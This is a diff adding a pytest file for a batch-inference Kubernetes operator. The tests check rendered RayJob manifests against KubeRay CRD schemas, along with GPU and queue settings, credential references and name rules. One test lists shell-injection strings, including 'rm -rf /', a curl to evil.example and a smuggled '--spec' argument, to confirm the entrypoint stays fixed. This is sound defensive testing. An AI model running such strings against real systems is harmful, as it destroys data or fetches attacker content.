@@ -1,0 +1,127 @@
+"""Rendering is pure: spec → ConfigMap, RBAC and a RayJob that KubeRay v1.7.0's CRD accepts."""
+
+from __future__ import annotations
+
+import json
+import shlex
+from pathlib import Path
+
+import pytest
+import yaml
+from typer.testing import CliRunner
+
+from batchinfer_job.documents import load_batchinference
+from batchinfer_job.spec import BatchInferenceSpec
+from batchinfer_operator import naming
+from batchinfer_operator.cli import app
+from batchinfer_operator.render import ENTRYPOINT, Owner, render_children, render_rayjob
+from batchinfer_operator.settings import OperatorSettings
+from tests.crd_schemas import kuberay_validator, schema_errors
+
+SAMPLES = sorted(Path("manifests/samples").glob("*.yaml"))
+SETTINGS = OperatorSettings()
+
+
+def by_kind(children: list[dict]) -> dict[str, dict]:
+    return {c["kind"]: c for c in children}
+
+
+@pytest.mark.parametrize("sample", SAMPLES, ids=lambda p: p.name)
+def test_render_output_of_every_sample_passes_the_kuberay_crd(sample: Path) -> None:
+    result = CliRunner().invoke(app, ["render", str(sample)])
+    assert result.exit_code == 0, result.output
+    docs = list(yaml.safe_load_all(result.output))
+    rayjobs = [d for d in docs if d["kind"] == "RayJob"]
+    assert len(rayjobs) == 1
+    assert schema_errors(kuberay_validator("rayjobs"), rayjobs[0]) == []
+    cluster = {
+        "apiVersion": "ray.io/v1",
+        "kind": "RayCluster",
+        "metadata": {"name": "x"},
+        "spec": rayjobs[0]["spec"]["rayClusterSpec"],
+    }
+    assert schema_errors(kuberay_validator("rayclusters"), cluster) == []
+    assert {d["kind"] for d in docs} == {"ConfigMap", "ServiceAccount", "Role", "RoleBinding", "RayJob"}
+
+
+def test_gpu_sample_requests_gpus_and_sets_replicas_explicitly() -> None:
+    doc = load_batchinference(Path("manifests/samples/resnet152-gpu-s3.yaml"))
+    rayjob = render_rayjob(doc.spec, Owner(doc.metadata.name, "ml-batch"), SETTINGS)
+    group = rayjob["spec"]["rayClusterSpec"]["workerGroupSpecs"][0]
+    assert (group["replicas"], group["minReplicas"], group["maxReplicas"]) == (1, 1, 4)
+    worker = group["template"]["spec"]["containers"][0]
+    assert worker["resources"]["limits"]["nvidia.com/gpu"] == 1
+    assert rayjob["spec"]["rayClusterSpec"]["enableInTreeAutoscaling"] is True
+    assert rayjob["spec"]["submissionMode"] == "K8sJobMode"
+    assert rayjob["spec"]["shutdownAfterJobFinishes"] is True
+    assert rayjob["spec"]["activeDeadlineSeconds"] == 21600 and rayjob["spec"]["backoffLimit"] == 2
+    assert group["template"]["spec"]["tolerations"][0]["key"] == "nvidia.com/gpu"
+
+
+def test_kueue_sample_gets_queue_label_and_stays_suspended() -> None:
+    doc = load_batchinference(Path("manifests/samples/kueue-queued.yaml"))
+    rayjob = render_rayjob(doc.spec, Owner(doc.metadata.name, "ml-batch"), SETTINGS)
+    assert rayjob["metadata"]["labels"]["kueue.x-k8s.io/queue-name"] == "team-ml"
+    assert rayjob["spec"]["suspend"] is True
+    assert rayjob["spec"]["rayClusterSpec"]["headGroupSpec"]["template"]["spec"]["priorityClassName"] == "batch-low"
+
+
+def test_credentials_only_by_reference() -> None:
+    doc = load_batchinference(Path("manifests/samples/resnet152-gpu-s3.yaml"))
+    children = render_children(doc.spec, Owner(doc.metadata.name, "ml-batch"), SETTINGS)
+    head = by_kind(children)["RayJob"]["spec"]["rayClusterSpec"]["headGroupSpec"]["template"]["spec"]
+    assert head["containers"][0]["envFrom"] == [{"secretRef": {"name": "s3-credentials"}}]
+    text = json.dumps(children)
+    assert "AWS_SECRET_ACCESS_KEY" not in text and "AWS_ACCESS_KEY_ID" not in text
+    assert all(c["kind"] != "Secret" for c in children)
+
+
+HOSTILE = [
+    "'; rm -rf / #",
+    '"$(curl evil.example)"',
+    "`reboot`",
+    "a\nb && echo pwned",
+    "x' --spec /tmp/evil.json '",
+]
+
+
+@pytest.mark.parametrize("evil", HOSTILE)
+def test_hostile_strings_cannot_change_the_entrypoint(evil: str) -> None:
+    spec = BatchInferenceSpec.model_validate(
+        {
+            "model": {"predictor": "pkg.mod:Predictor"},
+            "input": {"uri": f"s3://bucket/{evil}"},
+            "output": {"uri": f"/mnt/out/{evil}"},
+            "cluster": {"image": f"repo/image:{evil}"[:200]},
+            "storage": {"endpointUrl": f"http://minio/{evil}", "region": evil[:60]},
+        }
+    )
+    rayjob = render_rayjob(spec, Owner(name="ok", namespace="ns"), SETTINGS)
+    assert rayjob["spec"]["entrypoint"] == ENTRYPOINT
+    assert shlex.split(ENTRYPOINT) == [
+        "python",
+        "-m",
+        "batchinfer_job.entrypoint",
+        "--spec",
+        "/etc/batchinfer/spec.json",
+    ]
+    configmap = render_children(spec, Owner(name="ok", namespace="ns"), SETTINGS)[0]
+    assert json.loads(configmap["data"]["spec.json"])["spec"]["input"]["uri"] == f"s3://bucket/{evil}"
+
+
+@pytest.mark.parametrize(
+    "name",
+    ["simple", "a" * 253, "with.dots.in.name", "9starts-with-digit", "x" * 47, "x" * 48, "trailing-"],
+)
+def test_child_names_are_dns1035_and_short_enough(name: str) -> None:
+    rayjob = naming.rayjob_name(name)
+    assert len(rayjob) <= 47
+    assert rayjob[0].isalpha() and rayjob[-1].isalnum()
+    assert all(ch.isdigit() or ch == "-" or ("a" <= ch <= "z") for ch in rayjob)
+    assert len(naming.label_value(name)) <= 63
+    assert naming.rayjob_name(name) == rayjob  # deterministic
+
+
+def test_truncated_names_do_not_collide() -> None:
+    assert naming.rayjob_name("a" * 60 + "x") != naming.rayjob_name("a" * 60 + "y")
+    assert naming.rayjob_name("my.job") != naming.rayjob_name("my-job")
